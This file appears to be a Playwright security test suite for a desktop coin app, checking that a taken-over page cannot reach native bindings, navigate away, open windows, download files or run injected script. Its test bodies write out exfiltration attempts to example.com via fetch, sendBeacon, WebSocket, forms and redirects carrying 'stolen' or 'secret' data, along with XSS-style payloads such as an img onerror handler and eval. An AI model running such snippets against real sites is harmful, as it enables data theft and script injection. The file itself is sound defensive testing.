// A page that was taken over: what it finds, and what it cannot do. Each test plays the script of an attacker.

import { expect, type Page } from 'playwright/test'
import { callDesktop } from '../../../scripts/driver/desktop.ts'
import { EVENT_NAMES, OPERATION_NAMES } from '../../../shared/contract/contract.ts'
import { ORIGIN, shareApp, test } from '../support/open-app.ts'

const app = shareApp()

test.beforeEach(async () => {
  // Whatever the test before has done to the page is gone.
  await app.current.page.goto(`${ORIGIN}/`)
  await expect(app.current.page.getByRole('table', { name: 'Coins' })).toBeVisible()
})

/** The app's own page is there, on its own address, and talks to its own backend. */
async function stillHome(page: Page): Promise<void> {
  await expect(page.getByRole('table', { name: 'Coins' })).toBeVisible()
  expect(page.url().startsWith(`${ORIGIN}/`)).toBe(true)
  expect((await callDesktop(page, 'app.status', {})).ok).toBe(true)
  expect(page.context().pages()).toHaveLength(1)
}

test('finds one function an operation, and no way to add to them', async () => {
  const { page } = app.current
  const found = await page.evaluate(`Object.entries(desktop).flatMap(([group, methods]) =>
    typeof methods === 'function' ? [group] : Object.keys(methods).map((method) => group + '.' + method))`)
  expect((found as string[]).toSorted()).toEqual([...OPERATION_NAMES, 'on'].toSorted())
  const changed = await page.evaluate(`(() => {
    const before = desktop.orders.submit
    for (const change of [
      () => { desktop.orders.submit = () => 'mine' },
      () => { desktop.extra = () => 'mine' },
      () => { globalThis.desktop = { orders: { submit: () => 'mine' } } },
      () => { delete globalThis.desktop },
      () => { Object.defineProperty(globalThis, 'desktop', { value: {} }) },
    ]) { try { change() } catch {} }
    return { same: desktop.orders.submit === before, extra: 'extra' in desktop }
  })()`)
  expect(changed).toEqual({ same: true, extra: false })
})

test('does not find the bindings of the shell, nor anything of Node', async () => {
  const { page } = app.current
  const names = ['__prelistInvoke', '__prelistEvents', 'require', 'process', 'module', 'Buffer', 'electron']
  for (const name of names) expect(await page.evaluate(`typeof globalThis['${name}']`), name).toBe('undefined')
  const prelist = await page.evaluate(
    `Reflect.ownKeys(globalThis).filter((key) => /prelist/i.test(String(key))).map(String)`,
  )
  expect(prelist).toEqual([])
})

test('cannot call what is not in the contract, or with more than it takes', async () => {
  const { page } = app.current
  const answer = await page.evaluate(`desktop.orders.list({ accountId: 'practice', __proto__: { more: 1 }, extra: 1 })`)
  expect(answer).toMatchObject({ ok: false, error: { code: 'BAD_INPUT' } })
  expect(await page.evaluate(`desktop.notes.save({ coinId: 'peaq', text: 'x'.repeat(70000) })`)).toMatchObject({
    ok: false,
    error: { code: 'TOO_LARGE' },
  })
})

test('hears that something changed and how far long work is, and nothing besides', async () => {
  const { page } = app.current
  expect(await page.evaluate(`typeof desktop.on('no.such.event', () => {})`)).toBe('function')
  // Each further one is something that a page that was taken over hears unasked; so it is decided on here as well.
  const changed = [
    ...['accounts', 'airdrops', 'alerts', 'app', 'audit', 'coins', 'listings', 'notifications', 'orders'],
    ...['portfolio', 'prices', 'quotes', 'settings', 'sources', 'staged', 'undo', 'vault'],
  ]
  expect(EVENT_NAMES.toSorted()).toEqual(
    [...changed.map((area) => `${area}.changed`), 'backup.progress', 'import.progress', 'list.progress'].toSorted(),
  )
})

/** Runs in a task of its own, so that the page may be gone before the test has its answer. */
const runLater = (page: Page, script: string) => page.evaluate(`void setTimeout(() => { ${script} }, 0)`)

const WINDOWS = [
  `window.open('about:blank')`,
  `window.open('${ORIGIN}/')`,
  `window.open('https://example.com/')`,
  `const link = document.createElement('a'); link.href = '${ORIGIN}/'; link.target = '_blank'; document.body.append(link); link.click()`,
]

for (const script of WINDOWS) {
  test(`cannot open another window: ${script}`, async () => {
    const { page } = app.current
    app.current.tolerate(/^request to https:\/\/example\.com/)
    const opened = page.context().waitForEvent('page')
    await runLater(page, script)
    const other = await opened
    if (!other.isClosed()) await other.waitForEvent('close')
    await stillHome(page)
  })
}

const AWAY: [string, string][] = [
  ['location.href', `location.href = 'https://example.com/'`],
  ['location.replace', `location.replace('https://example.com/?stolen=1')`],
  [
    'a link',
    `const link = document.createElement('a'); link.href = 'https://example.com/'; document.body.append(link); link.click()`,
  ],
  ['about:blank', `location.href = 'about:blank'`],
  // To the empty page that the window started with.
  ['Back', 'history.go(1 - history.length)'],
]

for (const [name, script] of AWAY) {
  test(`is led home again after ${name}`, async () => {
    const { page } = app.current
    // What tries to leave is stopped before it reaches the network, and may say so on the console.
    app.current.tolerate(/^request to https:\/\/example\.com/, /^console: .*(example\.com|ERR_BLOCKED_BY_CLIENT)/)
    const left = page.waitForEvent('framenavigated', (frame) => !frame.url().startsWith(`${ORIGIN}/`))
    await runLater(page, script)
    await left
    await page.waitForURL(`${ORIGIN}/`)
    await stillHome(page)
  })
}

test('cannot download anything', async () => {
  const { page } = app.current
  const download = page.waitForEvent('download')
  await runLater(
    page,
    `const link = document.createElement('a')
    link.href = URL.createObjectURL(new Blob(['secret']))
    link.download = 'secret.txt'
    document.body.append(link)
    link.click()`,
  )
  // The context takes no downloads, so there is a failure instead of a file.
  expect(await (await download).failure()).not.toBeNull()
  await stillHome(page)
})

test('cannot post a form', async () => {
  const { page } = app.current
  app.current.provoke(/policy broken: form-action/)
  app.current.tolerate(/^console: .*form-action/)
  const stopped = page.waitForEvent('console', (message) => message.text().includes('policy broken: form-action'))
  await runLater(
    page,
    `const form = document.createElement('form')
    form.method = 'post'
    form.action = 'https://example.com/'
    document.body.append(form)
    form.submit()`,
  )
  await stopped
  // Locators would wait for a navigation that never comes, so the page is asked directly.
  expect((await callDesktop(page, 'app.status', {})).ok).toBe(true)
})

test('cannot speak with any machine', async () => {
  const { page } = app.current
  app.current.provoke(/policy broken: connect-src/, /policy broken: img-src/)
  app.current.tolerate(/^request to https:\/\/example\.com/, /^console: .*Content Security Policy/)
  const tries = await page.evaluate(`Promise.all([
    fetch('https://example.com/').then(() => 'sent', () => 'stopped'),
    fetch('http://127.0.0.1:1/').then(() => 'sent', () => 'stopped'),
    new Promise((done) => { const image = new Image(); image.onload = () => done('sent'); image.onerror = () => done('stopped'); image.src = 'https://example.com/a.png' }),
    Promise.resolve(navigator.sendBeacon('https://example.com/', 'secret') ? 'queued' : 'stopped'),
    new Promise((done) => { try { const socket = new WebSocket('wss://example.com/'); socket.onopen = () => done('sent'); socket.onerror = () => done('stopped') } catch { done('stopped') } }),
  ])`)
  // A beacon is always taken in; the policy stops it afterwards, and the fixture would see it leave.
  expect((tries as string[]).filter((outcome) => outcome === 'sent')).toEqual([])
})

test('cannot run a script that it brings along', async () => {
  const { page } = app.current
  app.current.provoke(/policy broken: require-trusted-types-for/, /policy broken: script-src/)
  app.current.tolerate(/Content Security Policy|Trusted(Script|HTML)|Failed to fetch dynamically/)
  // In a task of its own: what the test itself evaluates would be excepted from the policy.
  const ran = await page.evaluate(`new Promise((done) => setTimeout(() => {
    const attempts = [
      () => { const script = document.createElement('script'); script.textContent = 'globalThis.ran = 1'; document.body.append(script) },
      () => { const script = document.createElement('script'); script.append('globalThis.ran = 2'); document.body.append(script) },
      () => { const script = document.createElement('script'); script.src = 'data:text/javascript,globalThis.ran=3'; document.body.append(script) },
      () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="globalThis.ran = 4">'),
      () => eval('globalThis.ran = 5'),
      () => new Function('globalThis.ran = 6')(),
      () => setTimeout('globalThis.ran = 7', 0),
      () => { const button = document.createElement('button'); button.setAttribute('onclick', 'globalThis.ran = 8'); document.body.append(button); button.click() },
    ]
    const refused = attempts.filter((attempt) => { try { attempt(); return false } catch { return true } }).length
    import('data:text/javascript,globalThis.ran=9').then(() => done('imported'), () =>
      setTimeout(() => done({ ran: globalThis.ran ?? null, refused }), 0))
  }, 0))`)
  // A Blink of 2023 refuses all eight; later ones take the text in without running it.
  expect([7, 8].map((refused) => ({ ran: null, refused }))).toContainEqual(ran)
})

test('cannot call the backend out of a frame', async () => {
  const { page } = app.current
  app.current.provoke(/frame-src|default-src|frame-ancestors/)
  const outcome = await page.evaluate(`new Promise((done) => {
    const frame = document.createElement('iframe')
    document.body.append(frame)
    const inner = frame.contentWindow
    const other = document.createElement('iframe')
    other.src = '${ORIGIN}/'
    document.body.append(other)
    const asked = inner.desktop ? inner.desktop.coins.list({}) : Promise.resolve('no bridge')
    asked.then(done, (error) => done('failed: ' + error))
  })`)
  expect(outcome === 'no bridge' || (outcome as { error?: { code: string } }).error?.code === 'FORBIDDEN_SENDER').toBe(
    true,
  )
  expect(
    await page.evaluate(
      `(() => { const frame = document.createElement('iframe'); document.body.append(frame); return typeof frame.contentWindow.__prelistInvoke })()`,
    ),
  ).toBe('undefined')
})
